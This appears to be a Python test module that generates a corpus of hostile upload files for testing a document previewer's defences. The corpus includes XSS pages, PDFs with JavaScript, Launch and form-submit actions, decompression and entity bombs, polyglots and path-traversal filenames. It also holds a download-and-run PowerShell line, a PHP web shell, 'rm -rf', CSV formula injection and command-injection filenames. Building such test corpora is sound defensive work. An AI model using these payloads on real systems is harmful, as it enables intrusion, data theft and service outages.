"""Hostile files: each has a name of its own kind, the name it is sent under, and what makes its bytes.

What would act if it were opened says so by MARK: where that word stands outside of text, something was served active.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial

from pypdf.generic import ArrayObject, DictionaryObject, StreamObject, TextStringObject

from reviewboard.sample.files import docx, pdf
from tests.foundation.vault import hostile as at_the_door
from tests.previewer import samples
from tests.previewer.samples import action, name, with_parts, workbook, written

Make = Callable[[], bytes]
MARK = "alert('corpus')"
SCRIPT = f"<script>{MARK}</script>"
PAGE = f'<!doctype html><html><body onload="{MARK}">{SCRIPT}</body></html>'.encode()
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{MARK}\">{SCRIPT}</svg>".encode()
ESCAPE = "corpus-escape"  # in every name that tries to lead out of the vault

BEGINNINGS = {
    "exe": b"MZ\x90\0" + bytes(300),
    "elf": b"\x7fELF\2\1\1" + bytes(300),
    "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(90),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(90),
    "rar": b"Rar!\x1a\7\1\0" + bytes(90),
    "gz": gzip.compress(PAGE),
    "bz2": b"BZh91AY&SY" + bytes(90),
    "xz": b"\xfd7zXZ\0" + bytes(90),
    "cab": b"MSCF" + bytes(90),
    "lnk": b"L\0\0\0\1\x14\2\0" + bytes(90),
    "swf": b"FWS\x0a" + bytes(90),
    "rtf": b"{\\rtf1{\\object\\objdata 0105}}",
    "ps": b"%!PS-Adobe-3.0\n(x) run",
    "gif": b"GIF89a" + bytes(60),
    "webp": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(60),
    "tiff": b"II*\0\x08\0\0\0" + bytes(60),
    "bmp": b"BM" + bytes(80),
    "ico": b"\0\0\1\0\1\0" + bytes(60),
    "mp4": b"\0\0\0\x18ftypmp42" + bytes(90),
    "wasm": b"\0asm\1\0\0\0" + bytes(30),
    "sqlite": b"SQLite format 3\0" + bytes(90),
    "tar": b"x".ljust(257, b"\0") + b"ustar\x0000" + bytes(250),
    "doc": at_the_door.compound("WordDocument"),
    "msg": at_the_door.compound("__substg1.0_001A001E"),
    "mz-in-text": b"words\r\n" * 40 + b"MZ\0\0",
}

WORDS = {
    "html": PAGE,
    "xhtml": PAGE,
    "svg": SVG,
    "xml": b"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'/>",
    "mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE,
    "js": MARK.encode(),
    "vbs": b'CreateObject("WScript.Shell").Run "x"',
    "bat": b"@echo off\r\nstart x",
    "ps1": b"iex (iwr https://example.org)",
    "sh": b"#!/bin/sh\nrm -rf .",
    "hta": b"<hta:application>" + PAGE,
    "css": b"body{background:url(javascript:1)}",
    "url": b"[InternetShortcut]\r\nURL=file://10.0.0.1/x",
    "php": b"<?php system($_GET[0]); ?>",
    "jsp": b'<%@ page import="java.io.*" %>',
    "htaccess": b"AddType text/html .txt",
    "eml": b"From: a@example.org\nContent-Type: text/html\n\n" + PAGE,
    "csv": b"=cmd|'/c calc'!A1,+1,-1,@SUM(1)",
    "reg": b"Windows Registry Editor Version 5.00",
    "scf": b"[Shell]\r\nIconFile=\\\\10.0.0.1\\x",
    "utf7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "ansi": b"\x1b]0;x\x07\x1b[2J",
    "bidi": "\u202etxt.exe\u2066".encode(),
    "late page": b"honest words\n" * 700 + PAGE,
    "comment first": b"<!-- -->" * 2000 + PAGE,
    "byte order": b"\xef\xbb\xbf" + SVG,
}

ACTIONS = {
    "javascript": lambda: action(S=name("JavaScript"), JS=TextStringObject(MARK)),
    "launch": lambda: action(S=name("Launch"), F=TextStringObject("cmd.exe")),
    "submit": lambda: action(S=name("SubmitForm"), F=TextStringObject("https://example.org")),
    "import": lambda: action(S=name("ImportData"), F=TextStringObject("/etc/passwd")),
    "elsewhere": lambda: action(S=name("GoToR"), F=TextStringObject("\\\\10.0.0.1\\x.pdf")),
    "embedded": lambda: action(S=name("GoToE"), T=action(R=name("C"), N=TextStringObject("x"))),
    "rendition": lambda: action(S=name("Rendition"), JS=TextStringObject(MARK)),
    "address": lambda: action(S=name("URI"), URI=TextStringObject("https://example.org/seen")),
}


def _on_opening(act, writer):
    writer.root_object[name("OpenAction")] = act()


def _on_page(act, writer):
    writer.pages[0][name("AA")] = DictionaryObject({name("O"): act()})


def _on_closing(act, writer):
    writer.root_object[name("AA")] = DictionaryObject({name("WC"): act()})


def _in_chain(act, writer):
    first = action(S=name("GoTo"), D=ArrayObject([]))
    first[name("Next")] = ArrayObject([act()])
    writer.root_object[name("OpenAction")] = first


TRIGGERS = {"on opening": _on_opening, "on a page": _on_page, "on closing": _on_closing, "in a chain": _in_chain}

NAMES = (
    "../../{}.txt",
    "..\\..\\{}.txt",
    "/tmp/{}.txt",
    "C:\\{}.txt",
    "....//....//{}.txt",
    "%2e%2e%2f%2e%2e%2f{}.txt",
    "{}\0.txt",
    "{}.html\0.txt",
    "{}\r\nContent-Type: text/html\r\n.txt",
    '{}"; filename="x.html',
    "{}.txt.html",
    "{}.html.txt",
    ".htaccess{}.txt",
    "con.{}.txt",
    "{}\u202etxt.exe.txt",
    "{}" + "x" * 3000 + ".txt",
    "<img src=x onerror=alert(1)>{}.txt",
    "{}.txt ",
    "{}.TXT",
    "{}’; DROP TABLE evidence; --.txt",
    "$(touch {}).txt",
    "{{{{7*7}}}}{}.txt",
    "~/{}.txt",
    "{}.txt::$DATA",
)


def _flate_twice(writer):
    """A page whose content is 128 megabytes of spaces, packed twice."""
    packed = zlib.compressobj(9)
    once = b"".join(packed.compress(b" " * 1_000_000) for _ in range(128)) + packed.flush()
    stream = stream_of(zlib.compress(once, 9))
    stream[name("Filter")] = ArrayObject([name("FlateDecode"), name("FlateDecode")])
    writer.pages[0][name("Contents")] = writer._add_object(stream)


def stream_of(content):
    """Return a stream of a PDF that holds these bytes as they are."""
    stream = StreamObject()
    stream._data = content
    return stream


def _circle(writer):
    writer.root_object[name("Pages")][name("Kids")].append(writer.root_object.raw_get("/Pages"))


def _wide(writer):
    writer.pages[0][name("MediaBox")] = ArrayObject([TextStringObject("x"), *(name("9" * 300),) * 3])


def _picture(width, height, rows):
    """A PNG that really holds its points, all of one colour: a little file, and hundreds of megabytes once drawn."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packed = zlib.compressobj(9)
    row = b"\0" + bytes(3 * width)
    points = b"".join(packed.compress(row) for _ in range(rows)) + packed.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", points) + chunk(b"IEND", b"")


def _profile_bomb():
    picture = at_the_door.png()
    body = b"icc\0\0" + zlib.compress(bytes(120_000_000), 9)
    chunk = struct.pack(">I", len(body)) + b"iCCP" + body + struct.pack(">I", zlib.crc32(b"iCCP" + body))
    return picture[:33] + chunk + picture[33:]


def _deep(parts):
    content = b"end"
    for _ in range(parts):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
            made.writestr("a.docx", content)
        content = out.getvalue()
    return with_parts(docx("x"), word__embeddings__a_dot_docx=content)


BOMBS: dict[str, tuple[str, Make]] = {
    "stream packed twice": ("a.pdf", lambda: written(_flate_twice)),
    "pages in a circle": ("a.pdf", lambda: written(_circle)),
    "a page of no measure": ("a.pdf", lambda: written(_wide)),
    "many points, really there": ("a.png", lambda: _picture(9_900, 10_000, 10_000)),
    "a picture that lacks its rows": ("a.png", lambda: _picture(9_900, 10_000, 3)),
    "a profile that blows up": ("a.png", _profile_bomb),
    "archives in one another": ("a.docx", lambda: _deep(20)),
    "elements in one another": ("a.docx", lambda: with_parts(docx("x"), word__document_dot_xml="<a>" * 200_000)),
    "laughs in a workbook": ("a.xlsx", lambda: with_parts(workbook(), xl__workbook_dot_xml=samples.LAUGHS + "<w>&a11;</w>")),
    "an entity in a workbook": (
        "a.xlsx",
        lambda: with_parts(workbook(), xl__sharedStrings_dot_xml=samples.ENTITY + "<w>&from;</w>"),
    ),
    "zeros in a workbook": ("a.xlsx", lambda: with_parts(workbook(), xl__sharedStrings_dot_xml=bytes(90_000_000))),
    "zeros in slides": ("a.pptx", lambda: with_parts(samples.presentation(), ppt__media__a_dot_bin=bytes(90_000_000))),
    "one line without an end": ("a.txt", lambda: b"x" * 9_000_000),
    "many lines": ("a.txt", lambda: b"\n" * 9_000_000),
}

MIXED: dict[str, tuple[str, Make]] = {
    "a page before a PDF": ("a.pdf", lambda: PAGE + pdf("x")),
    "a page in a PDF's comment": ("a.pdf", lambda: pdf("x").replace(b"\n", b"\n%" + PAGE + b"\n", 1)),
    "an archive before a PDF": ("a.pdf", lambda: docx("x") + pdf("x")),
    "a PDF in a letter's middle": (
        "a.docx",
        lambda: with_parts(docx("x"), word__media__x_dot_pdf=samples.opening(S=name("JavaScript"))),
    ),
    "a page in a letter": ("a.docx", lambda: with_parts(docx("x"), word__media__x_dot_html=PAGE)),
    "a drawing in a letter": ("a.docx", lambda: with_parts(docx("x"), word__media__x_dot_svg=SVG)),
    "a page as a letter's text": ("a.docx", lambda: docx(SCRIPT)),
    "a page as a PDF's text": ("a.pdf", lambda: pdf(SCRIPT)),
    "a page as a text's text": ("a.txt", lambda: b"words " + SCRIPT.encode()),
    "an archive in a photograph": ("a.jpg", lambda: samples.photo() + docx("x")),
}


def hostile() -> Iterator[tuple[str, str, Make]]:
    """Yield what each file is, the name it is sent under, and what makes it."""
    for what, (sent_as, make, _reason) in at_the_door.HOSTILE.items():
        yield what, sent_as, make
    for what, (ending, _why, make) in samples.HOSTILE.items():
        yield what, f"a.{ending}", make
    for families in (BOMBS, MIXED):
        for what, (sent_as, make) in families.items():
            yield what, sent_as, make
    for kind, content in BEGINNINGS.items():
        yield f"{kind} as it is", f"a.{kind}", partial(bytes, content)
        yield f"{kind} called a PDF", "a.pdf", partial(bytes, content)
    for kind, content in WORDS.items():
        yield f"{kind} as it is", f"a.{kind}", partial(bytes, content)
        yield f"{kind} called a text", "a.txt", partial(bytes, content)
    for when, put in TRIGGERS.items():
        for what, act in ACTIONS.items():
            yield f"{what} {when}", "a.pdf", partial(written, partial(put, act))
    for ending, make in (("pdf", lambda: pdf("x")), ("docx", lambda: docx("x")), ("xlsx", workbook), ("jpg", samples.photo)):
        for tenth in range(1, 10, 2):
            yield f"{ending} cut off after {tenth} tenths", f"a.{ending}", partial(_cut, make, tenth)
    for number, odd in enumerate(NAMES):
        yield f"odd name {number}", odd.format(f"{ESCAPE}-{number}"), partial(bytes, f"words {number} {SCRIPT}".encode())


def _cut(make: Make, tenth: int) -> bytes:
    content = make()
    return content[: len(content) * tenth // 10]
